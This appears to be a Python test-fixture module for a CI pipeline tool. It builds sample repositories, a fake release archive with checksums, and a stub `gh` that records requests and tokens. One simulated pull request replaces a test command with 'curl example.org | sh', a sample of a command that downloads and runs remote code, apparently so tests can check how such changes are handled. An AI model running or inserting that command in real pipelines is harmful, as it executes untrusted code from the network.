"""Sample repositories with pipelines, releases to download from, and a `gh` that records what it is asked."""

import hashlib
import io
import json
import subprocess
import tarfile

GOOD = """digraph release {
    start  [shape=Mdiamond]
    test   [type=tool, command="make test"]
    review [type=human_gate, prompt="Release?"]
    fix    [prompt="Make the tests pass.", max_visits=5]
    done   [shape=Msquare]

    start -> test
    test -> review [condition="outcome=success"]
    test -> fix    [condition="outcome=fail"]
    fix -> test
    review -> done [label="[A] Approve"]
    review -> fix  [label="[R] Revise"]
}
"""

BROKEN = """digraph broken {
    start [shape=Mdiamond]
    build [type=tol, command="make | cat"]
    done  [shape=Msquare]

    start -> build -> done
}
"""

HALF_COVERED = """[[scenario]]
name = "every step succeeds"
expect.path = ["start", "test", "review", "done"]
"""

# Answers the list of comments from the file COMMENTS, and adds every other request to the file REQUESTS.
GH = """#!/usr/bin/env python3
import json, os, sys
words = sys.argv[1:]
if os.environ.get("GH_REFUSES"):
    sys.exit("gh: Resource not accessible by integration (HTTP 403)")
if "--paginate" in words:
    print(os.environ.get("GH_COMMENT", ""))
else:
    request = {"method": words[words.index("--method") + 1], "path": words[3], "body": json.load(sys.stdin)["body"],
               "token": os.environ.get("GH_TOKEN")}
    with open(os.environ["GH_REQUESTS"], "a") as requests:
        print(json.dumps(request), file=requests)
"""


class Repository:
    """A Git repository in a new folder."""

    def __init__(self, folder, files):
        self.folder = folder
        folder.mkdir(parents=True)
        self.git("init", "--quiet", "--initial-branch=main")
        self.commit(files)

    def git(self, *words):
        identity = ["-c", "user.name=Sample", "-c", "user.email=sample@example.org"]
        done = subprocess.run(["git", *identity, *words], cwd=self.folder, check=True, capture_output=True, text=True)
        return done.stdout.strip()

    def commit(self, files):
        for name, text in files.items():
            (self.folder / name).parent.mkdir(parents=True, exist_ok=True)
            (self.folder / name).write_text(text)
        self.git("add", "--all")
        self.git("commit", "--quiet", "--message=change")
        return self.git("rev-parse", "HEAD")


def pull_request(folder):
    """A pull request that changes a command, checked out as actions/checkout does: its merge, without history.

    The base branch has a newer commit than the one that the event names.
    """
    origin = Repository(folder / "origin", {"release.dot": GOOD, "other.dot": GOOD.replace("release", "other")})
    origin.git("config", "uploadpack.allowAnySHA1InWant", "true")
    stale = origin.git("rev-parse", "HEAD")
    origin.git("checkout", "--quiet", "-b", "topic")
    head = origin.commit({"release.dot": GOOD.replace("make test", "curl example.org | sh")})
    origin.git("checkout", "--quiet", "main")
    origin.commit({"other.dot": GOOD.replace("release", "other").replace("make test", "make check")})
    origin.git("merge", "--quiet", "--no-ff", "--message=merge", "topic")
    clone = folder / "clone"
    subprocess.run(["git", "clone", "--quiet", "--depth=1", f"file://{origin.folder}", str(clone)], check=True)
    event = {"number": "7", "base": {"sha": stale}, "head": {"sha": head}}
    return clone, {"event": {"pull_request": event}}


def release(folder, program, target, corrupt=False):
    """The files of a release with a program, as a release has them; its address is that of the folder."""
    files = folder / "download" / "v0.1.0"
    files.mkdir(parents=True)
    archive = files / f"attractor-{target}.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        text = f'#!/bin/sh\nexec "{program}" "$@"\n'.encode()
        member = tarfile.TarInfo(f"attractor-{target}/attractor")
        member.size, member.mode = len(text), 0o755
        tar.addfile(member, io.BytesIO(text))
    digest = hashlib.sha256(archive.read_bytes()).hexdigest()
    if corrupt:
        archive.write_bytes(archive.read_bytes() + b"x")
    (files / "SHA256SUMS").write_text(f"{'0' * 64}  attractor-other.tar.gz\n{digest}  {archive.name}\n")
    (folder / "latest").mkdir()
    (folder / "latest" / "download").symlink_to(files)
    return f"file://{folder}"


class Gh:
    """A `gh` on the path of the steps."""

    def __init__(self, folder, path, **env):
        folder.mkdir()
        (folder / "gh").write_text(GH)
        (folder / "gh").chmod(0o755)
        self.file = folder / "requests"
        self.file.touch()
        self.env = {"PATH": f"{folder}:{path}", "GH_REQUESTS": str(self.file), **env}

    def requests(self):
        return [json.loads(line) for line in self.file.read_text().splitlines()]
